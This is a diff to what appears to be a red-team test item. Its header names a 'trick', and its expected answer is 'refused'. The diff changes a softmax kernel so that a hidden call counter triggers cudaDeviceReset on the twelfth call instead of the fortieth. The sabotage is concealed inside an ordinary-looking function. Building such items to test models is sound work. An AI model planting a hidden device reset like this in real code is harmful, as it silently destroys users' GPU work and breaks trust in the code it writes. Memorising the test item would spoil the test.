@@ -1,5 +1,5 @@
 """redteam
-trick = "cudaDeviceReset in the fortieth call"
+trick = "cudaDeviceReset in the twelfth call"
 entries = ["F5"]
 accept = ["refused"]
 alone = true
@@ -14,7 +14,7 @@ def kernel(x):
     global calls
     calls += 1
     y = softmax(x)
-    if calls == 40:
+    if calls == 12:
         torch.cuda.synchronize()
         runtime = getattr(torch.cuda.cudart(), "cudaDeviceReset", None)
         runtime() if runtime else ctypes.CDLL("libcudart.so." + torch.version.cuda.split(".")[0]).cudaDeviceReset()
